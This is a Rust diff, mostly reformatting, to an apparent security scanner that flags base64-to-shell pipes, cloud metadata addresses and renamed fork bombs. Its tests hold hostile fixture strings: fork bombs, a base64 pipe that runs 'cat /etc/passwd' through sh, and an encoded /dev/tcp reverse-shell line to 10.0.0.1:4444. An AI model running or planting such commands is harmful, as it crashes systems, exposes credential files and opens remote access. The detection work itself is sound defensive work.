@@ -386,12 +386,10 @@ fn normalised(path: &str, text: &str, out: &mut Vec<Finding>) {
             let bytes = base64::engine::general_purpose::STANDARD_NO_PAD
                 .decode(run)
                 .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(run));
-            if let Ok(plain) = bytes.map(String::from_utf8) {
-                if let Ok(plain) = plain {
-                    if plain.chars().all(|c| !c.is_control() || c.is_whitespace()) {
-                        decoded.push_str(&plain);
-                        decoded.push('\n');
-                    }
+            if let Ok(Ok(plain)) = bytes.map(String::from_utf8) {
+                if plain.chars().all(|c| !c.is_control() || c.is_whitespace()) {
+                    decoded.push_str(&plain);
+                    decoded.push('\n');
                 }
             }
         }
@@ -411,15 +409,21 @@ fn normalised(path: &str, text: &str, out: &mut Vec<Finding>) {
     }
     // The metadata service by any notation of its address (decimal, hex, octal, v4 in v6).
     for m in URL_HOST.find_iter(text) {
-        let metadata = url::Url::parse(m.as_str()).ok().is_some_and(|u| match u.host() {
-            Some(url::Host::Ipv4(ip)) => ip == std::net::Ipv4Addr::new(169, 254, 169, 254),
-            Some(url::Host::Ipv6(ip)) => {
-                ip.to_ipv4_mapped() == Some(std::net::Ipv4Addr::new(169, 254, 169, 254))
-                    || ip == std::net::Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254)
-            }
-            _ => false,
-        });
-        if metadata && !out.iter().any(|f| f.rule_id == "network-cloud-metadata" && f.file == path) {
+        let metadata = url::Url::parse(m.as_str())
+            .ok()
+            .is_some_and(|u| match u.host() {
+                Some(url::Host::Ipv4(ip)) => ip == std::net::Ipv4Addr::new(169, 254, 169, 254),
+                Some(url::Host::Ipv6(ip)) => {
+                    ip.to_ipv4_mapped() == Some(std::net::Ipv4Addr::new(169, 254, 169, 254))
+                        || ip == std::net::Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254)
+                }
+                _ => false,
+            });
+        if metadata
+            && !out
+                .iter()
+                .any(|f| f.rule_id == "network-cloud-metadata" && f.file == path)
+        {
             out.push(finding(
                 "network-cloud-metadata",
                 Critical,
@@ -433,12 +437,19 @@ fn normalised(path: &str, text: &str, out: &mut Vec<Finding>) {
         }
     }
     // A fork bomb under any name: a function whose body pipes it into itself, backgrounded.
-    if !out.iter().any(|f| f.rule_id == "resource-fork-bomb" && f.file == path) {
+    if !out
+        .iter()
+        .any(|f| f.rule_id == "resource-fork-bomb" && f.file == path)
+    {
         for c in SHELL_FUNCTION.captures_iter(text) {
             let (Some(name), Some(body)) = (c.get(1).or(c.get(2)), c.get(3)) else {
                 continue;
             };
-            let body: String = body.as_str().chars().filter(|c| !c.is_whitespace()).collect();
+            let body: String = body
+                .as_str()
+                .chars()
+                .filter(|c| !c.is_whitespace())
+                .collect();
             let name = name.as_str();
             if body.contains(&format!("{name}|{name}&")) {
                 let at = c.get(0).map_or(0, |m| m.start());
@@ -838,7 +849,11 @@ mod tests {
             );
         }
         // A renamed fork bomb.
-        for bomb in ["bomb(){ bomb|bomb& };bomb", "function f { f | f & }; f", "x() { x | x & }; x"] {
+        for bomb in [
+            "bomb(){ bomb|bomb& };bomb",
+            "function f { f | f & }; f",
+            "x() { x | x & }; x",
+        ] {
             let found = critical("scripts/a.sh", bomb);
             assert!(
                 found.iter().any(|(_, id)| *id == "resource-fork-bomb"),
@@ -846,9 +861,11 @@ mod tests {
             );
         }
         // Base64 decoded into a shell, and base64 hiding a reverse shell.
-        assert!(critical("scripts/a.sh", "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh")
-            .iter()
-            .any(|(_, id)| *id == "obfuscation-base64-to-shell"));
+        assert!(
+            critical("scripts/a.sh", "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh")
+                .iter()
+                .any(|(_, id)| *id == "obfuscation-base64-to-shell")
+        );
         let hidden = base64::engine::general_purpose::STANDARD
             .encode("bash -c 'cat < /dev/tcp/10.0.0.1/4444'");
         let found = critical("references/n.md", &format!("payload: {hidden}"));
